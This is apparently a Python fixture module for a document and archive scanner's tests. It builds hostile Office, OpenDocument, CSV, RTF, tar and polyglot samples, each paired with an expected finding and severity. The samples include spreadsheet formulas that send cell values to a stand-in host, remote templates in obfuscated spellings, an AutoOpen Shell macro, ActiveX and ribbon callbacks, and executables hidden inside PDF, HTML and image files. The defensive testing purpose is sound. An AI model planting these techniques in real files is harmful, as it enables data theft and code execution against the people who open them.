"""Tables, documents and archives that reach out or carry parts by ways that few look at."""

import io
import tarfile

from tests.samples.documents import macro_document, ole1, open_document, package, relationships, rich_text, rtf_object
from tests.samples.files import jpeg, pdf, pe, png, zip_of
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
XML = '<?xml version="1.0" encoding="UTF-8"?>'


def cases() -> list[Case]:
    """Formulas, texts taken in, controls, ribbons, templates in odd spellings, doors in archives, and two kinds at once."""
    return [*_formulas(), *_taken_in(), *_controls(), *_ribbons(), *_templates(), *_archives()]


def _formulas() -> list[Case]:
    formulas = [
        f'WEBSERVICE("http://{HOST}/?"&amp;A2)',
        f'_xlfn.WEBSERVICE(CONCATENATE("https://{HOST}/",B1))',
        f'_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://{HOST}/a"),"//a")',
        f'HYPERLINK("\\\\{HOST}\\s\\a.exe","Open")',
        f'HYPERLINK("file://{HOST}/s/a.lnk")',
        f"'\\\\{HOST}\\s\\[b.xlsx]S'!A1",
        f"INDIRECT(\"'\\\\{HOST}\\s\\[a.xls]S'!A1\")",
    ]
    books = [
        (f"Budget {n}.xlsx", package("xlsx", {"xl/worksheets/sheet1.xml": f"{XML}<worksheet><c><f>{one}</f></c></worksheet>".encode()}))
        for n, one in enumerate(formulas)
    ]
    cell = f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://{HOST}/?&quot;&amp;[.A1])"/>'
    tables = [
        ("Rates.csv", f'id,name\n1,"=IMPORTXML(CONCAT(""http://{HOST}/?v="",A1),""//a"")"\n'.encode()),
        ("Rates2.csv", f'=HYPERLINK("\\\\{HOST}\\s\\a.exe",1)\n'.encode()),
        ("Rates.ods", open_document(content=cell, kind="spreadsheet")),
    ]
    return [single("office: formula that reaches out", name, body, "office.formula") for name, body in [*books, *tables]]


def _taken_in() -> list[Case]:
    equation = rich_text(rtf_object(ole1("Equation.3", bytes(80)), "\\objemb\\objupdate", "Equation.3"))
    parts = [
        ("part.rtf", equation, HIGH, "office.embedded-object"),
        ("part.dat", macro_document({"M": "Sub AutoOpen()\n Shell 1\nEnd Sub"}), HIGH, "office.macro-autoexec"),
        ("part.rtf", f"{{\\rtf1{{\\*\\template http://{HOST}/t.dotm}}}}".encode(), HIGH, "office.remote-template"),
        ("part.htm", f"<html><img src='file://{HOST}/s/i.png'></html>".encode(), MEDIUM, "shortcut.remote"),
    ]
    held = [
        single(
            "office: text of another format taken in",
            f"Terms {n}.docx",
            package("docx", {"word/_rels/document.xml.rels": relationships(("aFChunk", name, False)), f"word/{name}": body}),
            expected,
            least=least,
        )
        for n, (name, body, least, expected) in enumerate(parts)
    ]
    away = package("docx", {"word/_rels/document.xml.rels": relationships(("aFChunk", f"https://{HOST}/x.rtf", True))})
    return [*held, single("office: text of another format taken in", "Terms.docx", away, "office.remote-template", least=HIGH)]


def _controls() -> list[Case]:
    named = [
        ("{8856F961-340A-11D0-A96B-00C04FD705A2}", f"http://{HOST}/x.html", HIGH),
        ("{D27CDB6E-AE6D-11CF-96B8-444553540000}", f"http://{HOST}/x.swf", HIGH),
        ("{6BF52A52-394A-11d3-B153-00C04F79FAA6}", f"\\\\{HOST}\\s\\v.wmv", HIGH),
        ("{72C24DD5-D70A-438B-8A42-98424B88AFB8}", "", MEDIUM),
        ("{BDD1F04B-858B-11D1-B16A-00C0F0283628}", "", MEDIUM),
    ]
    files = []
    for n, (class_id, address, least) in enumerate(named):
        body = f'{XML}<ax:ocx xmlns:ax="a" ax:classid="{class_id}"><ax:ocxPr ax:name="URL" ax:value="{address}"/></ax:ocx>'.encode()
        folder, kind = (("word", "docx"), ("xl", "xlsx"), ("ppt", "pptx"))[n % 3]
        files.append((f"Form {n}.{kind}", package(kind, {f"{folder}/activeX/activeX{n}.xml": body}), least))
    return [single("office: active control", name, body, "office.embedded-object", least=least) for name, body, least in files]


def _ribbons() -> list[Case]:
    places = [
        (f"http://{HOST}/t.dotm!M", "customUI/customUI.xml", "docx"),
        (f"\\\\{HOST}\\s\\x.xlam!Go", "customUI/customUI14.xml", "xlsx"),
    ]
    ribbons = [
        single(
            "office: ribbon that calls a macro elsewhere",
            f"Menu.{kind}",
            package(kind, {part: f'{XML}<customUI xmlns="u" onLoad="{address}"/>'.encode()}),
            "office.remote-template",
            least=HIGH,
        )
        for address, part, kind in places
    ]
    listener = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:LibreLogo|x.py$run?location=share"/>'
    script = open_document(content=f"<office:event-listeners>{listener}</office:event-listeners>")
    return [*ribbons, single("office: script of the program itself", "Letter.odt", script, "office.macro-autoexec", least=HIGH)]


def _templates() -> list[Case]:
    spellings = [
        (f"http://{HOST}/t.dotm", ""),
        (f"hTTps://{HOST}/t.dotm", ' TargetMode=" External "'),
        (f"&#104;ttp://{HOST}/t", ' TargetMode="External"'),
        ("http://0xCB007109/t.dotm", ' TargetMode="External"'),
        (f"file:///\\\\{HOST}@SSL\\s\\t.dotm", ' TargetMode="EXTERNAL"'),
        (f"\u200bhttp://{HOST}/t.dotm", ' TargetMode="External"'),
        (f"ms-word:ofe|u|http://{HOST}/t.dotm", ' TargetMode="External"'),
    ]
    form = '<Relationships xmlns="r"><Relationship Id="a" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="{}"{}/></Relationships>'
    return [
        single(
            "office: template in an odd spelling",
            f"CV {n}.docx",
            package("docx", {"word/_rels/settings.xml.rels": (XML + form.format(target, mode)).encode()}),
            "office.remote-template",
            least=HIGH,
        )
        for n, (target, mode) in enumerate(spellings)
    ]


def _archives() -> list[Case]:
    doors = []
    for n, kind in enumerate((tarfile.BLKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
            door = tarfile.TarInfo("dev/sda")
            door.type, door.devmajor = kind, 8
            archive.addfile(door)
        doors.append(single("archive: door to a device", f"backup {n}.tar", out.getvalue(), "archive.link", least=LOW))
    programs = zip_of({"setup.exe": pe()})
    stream = b"%PDF-1.4\n9 0 obj\n<</Length 9>>\nstream\n" + programs + b"\nendstream\nendobj\n" + pdf()[9:]
    twice = [
        ("Plan.pdf", pdf() + programs),
        ("Plan2.pdf", programs + pdf()),
        ("Plan3.pdf", stream),
        ("Page.html", b"<html><!--" + programs + b"--></html>"),
        ("Photo.jpg", jpeg() + pdf()),
        ("Logo.png", png() + b"<html><script>alert(1)</script></html>"),
    ]
    return [*doors, *(single("two kinds at once, by archives", name, body, "type.polyglot", "type.appended-data") for name, body in twice)]
